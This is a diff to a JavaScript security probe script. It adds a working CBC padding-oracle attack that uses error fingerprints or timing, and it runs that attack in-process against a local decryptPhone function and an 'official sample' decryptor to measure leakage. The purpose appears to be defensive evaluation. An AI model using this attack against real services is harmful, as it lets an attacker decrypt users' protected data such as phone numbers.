@@ -143,6 +143,64 @@ export function attackBlock(query, prev, block) {
 }
 
 /**
+ * The same attack where the oracle is the outcome's fingerprint OR its time:
+ * each guess is timed `reps` times in two passes (minimum kept,
+ * process.hrtime.bigint); a guess whose fingerprint differs from the
+ * majority's wins outright (e.g. a forged prefix that happens to be valid
+ * JSON, like the digits of a phone number, gives NOT_PHONE_DATA); otherwise
+ * the guess whose time stands out from the median by more than `minGapNs` and
+ * 4x more than any other guess, confirmed by a second timing. A byte is tried
+ * up to 6 times before the attack gives up. Only for non-final blocks (a
+ * final block has its own valid padding as a second slow guess). Figures for
+ * the script, never a test assertion.
+ */
+export function attackBlockTiming(query, prev, block, { reps = 5, minGapNs = 1500 } = {}) {
+  const call = (x) => { try { query(x, block); } catch { /* the outcome is observed separately */ } };
+  const time = (x) => {
+    let best = Infinity;
+    for (let r = 0; r < reps; r++) {
+      const t0 = process.hrtime.bigint();
+      call(x);
+      const dt = Number(process.hrtime.bigint() - t0);
+      if (dt < best) best = dt;
+    }
+    return best;
+  };
+  const inter = Buffer.alloc(16);
+  let recovered = 0, queries = 0, byTiming = 0, byOutcome = 0;
+  for (let i = 0; i < 500; i++) call(prev); // warm-up: the first calls are slow (lazy compilation)
+  for (let pad = 1; pad <= 16; pad++) {
+    const j = 16 - pad;
+    const x = Buffer.from(prev);
+    for (let m = j + 1; m < 16; m++) x[m] = inter[m] ^ pad;
+    let found = -1;
+    // Outcome first: one query per guess.
+    const byFingerprint = new Map();
+    for (let g = 0; g < 256; g++) { x[j] = g; const f = fingerprint(() => query(x, block), { stack: true }); queries++; byFingerprint.set(f, [...(byFingerprint.get(f) ?? []), g]); }
+    const rare = [...byFingerprint.values()].filter((gs) => gs.length === 1);
+    if (byFingerprint.size === 2 && rare.length === 1) { found = rare[0][0]; byOutcome++; }
+    for (let attempt = 0; found < 0 && attempt < 6; attempt++) {
+      const times = new Float64Array(256).fill(Infinity);
+      for (let pass = 0; pass < 2; pass++) {
+        for (let g = 0; g < 256; g++) { x[j] = g; times[g] = Math.min(times[g], time(x)); queries += reps; }
+      }
+      const median = Float64Array.from(times).sort()[128];
+      const dev = Array.from(times, (t) => Math.abs(t - median));
+      const [best, second] = [...dev.keys()].sort((a, b) => dev[b] - dev[a]);
+      if (dev[best] < minGapNs || dev[best] < 4 * dev[second]) continue;
+      x[j] = best; const a = time(x); x[j] = second; const b = time(x); queries += 2 * reps;
+      if (Math.abs(a - b) > minGapNs / 2) { found = best; byTiming++; }
+    }
+    if (found < 0) break;
+    inter[j] = found ^ pad;
+    recovered++;
+  }
+  const plaintext = Buffer.alloc(16);
+  for (let m = 0; m < 16; m++) plaintext[m] = inter[m] ^ prev[m];
+  return { plaintext: recovered === 16 ? plaintext : null, recovered, queries, inter, byTiming, byOutcome };
+}
+
+/**
  * Genie-aided check, the strongest position an attacker could reach: given
  * the true intermediate D(C) (computed with the key, which no attacker has),
  * the forged plaintext is set to '}' (valid UTF-8, never valid JSON) before
@@ -230,6 +288,27 @@ if (process.argv[1] === fileURLToPath(import.meta.url)) {
   const genie = genieAll(api, vic);
   for (const [name, g] of Object.entries(genie)) {
     console.log(`| ${name} | ${g.withoutStack.leakyPositions}/16 | ${g.withStack.leakyPositions}/16 |`);
+  }
+  if (!process.env.PROBE_NO_TIMING) {
+    // Timing oracle, in-process (no network noise): blocks 0..n-2.
+    const timingTargets = {
+      'ours: decryptPhone(appId)': (x, b) => api.decryptPhone(vic.sessionKey, b.toString('base64'), x.toString('base64'), { appId: APPID }),
+      'official sample, as published': (() => { const c = new OfficialSample(APPID, vic.sessionKey); return (x, b) => c.decryptData(b.toString('base64'), x.toString('base64')); })(),
+    };
+    console.log('\noutcome-or-timing oracle (in-process, min of 2x5 timings per guess; figures, not assertions):');
+    console.log('| target | bytes recovered | of which correct | by timing | by outcome | queries | seconds |');
+    console.log('|---|---:|---:|---:|---:|---:|---:|');
+    for (const [name, call] of Object.entries(timingTargets)) {
+      const t0 = Date.now();
+      let bytes = 0, correct = 0, queries = 0, byTiming = 0, byOutcome = 0;
+      for (let i = 0; i < vic.ciphertext.length / 16 - 1; i++) {
+        const prev = i === 0 ? vic.ivBytes : vic.ciphertext.subarray((i - 1) * 16, i * 16);
+        const r = attackBlockTiming(call, prev, vic.ciphertext.subarray(i * 16, i * 16 + 16));
+        bytes += r.recovered; queries += r.queries; byTiming += r.byTiming; byOutcome += r.byOutcome;
+        for (let m = 16 - r.recovered; m < 16; m++) if ((r.inter[m] ^ prev[m]) === vic.padded[i * 16 + m]) correct++;
+      }
+      console.log(`| ${name} | ${bytes}/${vic.ciphertext.length - 16} | ${correct} | ${byTiming} | ${byOutcome} | ${queries} | ${((Date.now() - t0) / 1000).toFixed(1)} |`);
+    }
   }
   let ok = true;
   for (const name of MUST_NOT_LEAK) {
